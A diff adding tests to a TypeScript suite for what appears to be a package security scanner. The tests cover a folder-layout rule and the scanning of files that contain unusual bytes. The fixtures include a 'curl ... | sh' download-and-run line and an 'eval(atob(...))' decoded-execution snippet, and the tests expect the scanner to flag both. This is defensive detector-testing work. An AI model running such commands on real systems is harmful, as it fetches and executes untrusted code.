@@ -28,6 +28,36 @@ suite('the verdict', () => {
     assert.deepEqual(verdict, { outcome: 'passed', findings: [], rulesetVersion: RULESET_VERSION });
   });
 
+  test('finds a folder around everything, also beside what a desktop adds', async () => {
+    for (const added of [
+      'pack/a.txt',
+      '__MACOSX/pack/._a.txt',
+      '.DS_Store',
+      'pack/Thumbs.db',
+      'desktop.ini',
+    ]) {
+      const { findings } = await checkFiles({ 'pack/__init__.py': '', [added]: '' });
+      assert.deepEqual(rulesOf(findings), ['pack/ nothing-at-root'], added);
+    }
+    assert.deepEqual((await checkFiles({ 'pack/__init__.py': '', '__init__.py': '' })).findings, []);
+  });
+
+  test('reads a file with the name of a text whatever bytes are in it', async () => {
+    const found = async (name: string, text: string): Promise<string[]> => {
+      const { findings } = await checkPackage(openFiles({ [name]: Buffer.from(text, 'latin1') }));
+      return rulesOf(findings);
+    };
+    const code = 'eval(atob("eA=="))';
+    assert.deepEqual(await found('a.js', `/*\0\xff*/${code}`), ['a.js web-exec-decoded']);
+    assert.deepEqual(await found('a.html', `<p>\0\xff</p><script>${code}</script>`), [
+      'a.html web-exec-decoded',
+    ]);
+    assert.deepEqual(await found('a.sh', '#\0\xff\ncurl https://a.io/a.sh | sh\n'), [
+      'a.sh download-to-shell',
+    ]);
+    assert.deepEqual(await found('a.ts', `\x47\0\xff${code}`), [], 'a video');
+  });
+
   test('is found when an error stands, passed when only warnings do', async () => {
     assert.equal((await checkFiles({ 'a.py': SOURCE })).outcome, 'found');
     assert.equal((await checkFiles({ 'a.py': 'import os\nos.system("ls")\n' })).outcome, 'passed');
